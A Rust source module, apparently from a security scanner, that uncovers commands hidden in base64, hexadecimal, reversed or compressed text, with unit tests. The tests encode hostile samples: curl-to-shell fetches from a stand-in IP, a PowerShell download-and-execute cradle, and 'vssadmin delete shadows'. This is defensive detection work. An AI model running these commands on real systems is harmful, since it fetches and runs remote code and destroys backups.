//! Text hidden in base64 or hexadecimal: PowerShell's encoded commands, payloads piped through a decoder, compressed scripts.

mod deflate;

use super::normalise::FIELD_LIMIT;
use super::note::{Note, Notes};
use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use deflate::may_be_deflate;
use miniz_oxide::inflate::{decompress_to_vec_with_limit, decompress_to_vec_zlib_with_limit};

/// Padding and trailing bits are as sloppy in the wild as decoders allow.
const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);
/// Shorter runs of base64 characters are words.
const SHORTEST_RUN: usize = 20;
/// At most this many runs of one text are tried.
const MOST_RUNS: usize = 16;
/// An encoded command may contain another.
const DEPTH: usize = 2;

/// What base64 runs in `text` say, joined with spaces: only those that decode to readable text. `None` if there are none.
///
/// Time and output are bounded: at most [`MOST_RUNS`] runs per text, [`DEPTH`] levels, [`FIELD_LIMIT`] bytes, also of what
/// is decompressed.
pub(super) fn decoded(text: &str, notes: &mut Notes) -> Option<String> {
    let mut out = String::new();
    decode_into(text, DEPTH, &mut out, notes);
    notes.add_if(!out.is_empty(), Note::Base64);
    (!out.is_empty()).then_some(out)
}

fn decode_into(text: &str, depth: usize, out: &mut String, notes: &mut Notes) {
    let mut hints = Hints::of(text);
    for run in runs(text).take(MOST_RUNS) {
        let Some(found) = readable(run, &mut hints, notes) else { continue };
        let room = (FIELD_LIMIT - 1).saturating_sub(out.len());
        out.push_str(&found[..found.floor_char_boundary(room)]);
        if found.len() > room {
            return;
        }
        out.push(' ');
        if depth > 1 {
            decode_into(&found, depth - 1, out, notes);
        }
    }
}

fn runs(text: &str) -> impl Iterator<Item = &str> {
    let bytes = text.as_bytes();
    let mut at = 0;
    std::iter::from_fn(move || {
        // A run that is long enough has one of every so many bytes: the others need not be looked at.
        while let Some(byte) = bytes.get(at + SHORTEST_RUN - 1) {
            if !belongs(byte) {
                at += SHORTEST_RUN;
                continue;
            }
            let before = bytes[at..at + SHORTEST_RUN].iter().rposition(|byte| !belongs(byte));
            if let Some(before) = before {
                at += before + 1;
                continue;
            }
            let length = bytes[at..].iter().position(|byte| !belongs(byte)).unwrap_or(bytes.len() - at);
            let run = &text[at..at + length];
            at += length;
            return Some(run);
        }
        None
    })
}

/// Whether a character may be part of base64.
fn belongs(byte: &u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
}

/// What the text around a run says about it. Looked for only where it matters, and once.
struct Hints<'t> {
    text: &'t str,
    turned: Option<bool>,
    hexadecimal: Option<bool>,
}

impl<'t> Hints<'t> {
    const fn of(text: &'t str) -> Self {
        Self { text, turned: None, hexadecimal: None }
    }

    /// Whether a run may be turned round.
    fn turned(&mut self) -> bool {
        let text = self.text;
        *self.turned.get_or_insert_with(|| has_one(text, &["rev", "[-1.."]))
    }

    /// Whether a run may be hexadecimal.
    fn hexadecimal(&mut self) -> bool {
        let text = self.text;
        *self.hexadecimal.get_or_insert_with(|| has_one(text, &["xxd", "hex", "unpack", "0x", "convert"]))
    }
}

fn has_one(text: &str, words: &[&str]) -> bool {
    let lower = text.to_ascii_lowercase();
    words.iter().any(|word| lower.contains(word))
}

/// The text that `run` encodes.
fn readable(run: &str, hints: &mut Hints<'_>, notes: &mut Notes) -> Option<String> {
    if run.len().is_multiple_of(2)
        && run.bytes().all(|byte| byte.is_ascii_hexdigit())
        && hints.hexadecimal()
        && let Some(text) = hex::decode(run).ok().and_then(|bytes| text_of(&bytes))
    {
        return Some(text);
    }
    let straight = from_base64(run, notes);
    if straight.is_some() || !hints.turned() {
        return straight;
    }
    from_base64(&run.chars().rev().collect::<String>(), notes)
}

/// Words and paths look like base64 too, but do not decode to readable text, so a readable result is proof enough.
fn from_base64(run: &str, notes: &mut Notes) -> Option<String> {
    let whole = if run.len() % 4 == 1 { &run[..run.len() - 1] } else { run };
    let bytes = LENIENT.decode(whole).ok()?;
    text_of(&bytes).or_else(|| {
        let text = text_of(&decompressed(&bytes)?)?;
        notes.add(Note::Gzip);
        Some(text)
    })
}

/// gzip, zlib or a bare deflate stream, whose beginnings are told apart by their first bytes.
fn decompressed(bytes: &[u8]) -> Option<Vec<u8>> {
    // What was cut off at the limit is still worth reading.
    let partial = |result: Result<Vec<u8>, miniz_oxide::inflate::DecompressError>| match result {
        Ok(bytes) => Some(bytes),
        Err(error) => Some(error.output).filter(|bytes| !bytes.is_empty()),
    };
    match bytes {
        [0x1f, 0x8b, 8, flags, ..] => {
            let body = gzip_body(bytes, *flags)?;
            partial(decompress_to_vec_with_limit(body, FIELD_LIMIT))
        }
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => partial(decompress_to_vec_zlib_with_limit(bytes, FIELD_LIMIT)),
        _ if bytes.len() >= 16 && may_be_deflate(bytes) => decompress_to_vec_with_limit(bytes, FIELD_LIMIT).ok(),
        _ => None,
    }
}

/// After the header with its optional parts.
fn gzip_body(bytes: &[u8], flags: u8) -> Option<&[u8]> {
    let mut rest = bytes.get(10..)?;
    if flags & 0b100 != 0 {
        let length = usize::from(u16::from_le_bytes([*rest.first()?, *rest.get(1)?]));
        rest = rest.get(2 + length..)?;
    }
    for bit in [0b1000, 0b1_0000] {
        if flags & bit != 0 {
            let end = rest.iter().position(|byte| *byte == 0)?;
            rest = &rest[end + 1..];
        }
    }
    if flags & 0b10 != 0 { rest.get(2..) } else { Some(rest) }
}

/// `bytes` as UTF-16LE or as ASCII, if they are readable.
fn text_of(bytes: &[u8]) -> Option<String> {
    if bytes.len() >= 8 && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 10 >= bytes.len() / 2 * 8 {
        let units = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
        let text: String = char::decode_utf16(units).map(|c| c.unwrap_or(' ')).collect();
        let readable = text.chars().filter(|c| matches!(c, ' '..='~' | '\t' | '\r' | '\n')).count();
        return (readable * 10 >= text.chars().count() * 8).then_some(text);
    }
    let printable = bytes.iter().all(|b| matches!(b, b' '..=b'~' | b'\t' | b'\r' | b'\n'));
    (printable && bytes.len() >= 12).then(|| String::from_utf8_lossy(bytes).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::prelude::BASE64_STANDARD;
    use miniz_oxide::deflate::{compress_to_vec, compress_to_vec_zlib};

    fn utf16(text: &str) -> String {
        BASE64_STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }

    fn read(text: &str) -> Option<String> {
        decoded(text, &mut Notes::default())
    }

    #[test]
    fn powershells_utf16_and_the_shells_ascii_are_read() {
        let text = format!("powershell -enc {}", utf16("Invoke-Expression $x"));
        assert_eq!(read(&text).as_deref(), Some("Invoke-Expression $x "));
        let text = format!("echo {} | base64 -d | sh", BASE64_STANDARD.encode("curl http://203.0.113.5/x | sh"));
        assert_eq!(read(&text).as_deref(), Some("curl http://203.0.113.5/x | sh "));
    }

    #[test]
    fn one_encoding_inside_another_is_read() {
        let inner = format!("powershell -e {}", utf16("vssadmin delete shadows"));
        assert!(read(&format!("powershell -e {}", utf16(&inner))).unwrap().contains("vssadmin delete shadows"));
    }

    #[test]
    fn compressed_turned_and_hexadecimal_texts_are_read() {
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/x'); IEX $y";
        let raw = compress_to_vec(script.as_bytes(), 6);
        let mut gzip = vec![0x1f, 0x8b, 8, 0b1000, 0, 0, 0, 0, 0, 3, b'a', 0];
        gzip.extend(&raw);
        for bytes in [raw, compress_to_vec_zlib(script.as_bytes(), 6), gzip] {
            let mut notes = Notes::default();
            let text = format!("[Convert]::FromBase64String('{}')", BASE64_STANDARD.encode(bytes));
            assert_eq!(decoded(&text, &mut notes).as_deref().map(str::trim), Some(script));
            assert!(notes.has(Note::Gzip) && notes.has(Note::Base64));
        }
        let turned: String = BASE64_STANDARD.encode("curl http://203.0.113.5/x | sh").chars().rev().collect();
        assert_eq!(
            read(&format!("echo {turned} | rev | base64 -d")).as_deref(),
            Some("curl http://203.0.113.5/x | sh ")
        );
        let hexadecimal = hex::encode("curl http://203.0.113.5/x | sh");
        assert_eq!(
            read(&format!("echo {hexadecimal} | xxd -r -p")).as_deref(),
            Some("curl http://203.0.113.5/x | sh ")
        );
    }

    #[test]
    fn a_small_text_that_unpacks_to_a_huge_one_is_cut() {
        let bomb = BASE64_STANDARD.encode(compress_to_vec_zlib(&vec![b'a'; 8 * 1024 * 1024], 9));
        assert!(bomb.len() < FIELD_LIMIT);
        assert!(read(&bomb).is_none_or(|text| text.len() <= FIELD_LIMIT));
    }

    #[test]
    fn words_paths_and_hashes_are_not_text() {
        for text in [
            "/usr/local/share/applications/something/long/enough",
            "d41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e",
            "Get-ChildItem -Path InternationalizationConfigurationProvider",
        ] {
            assert_eq!(read(text), None, "{text}");
        }
    }
}
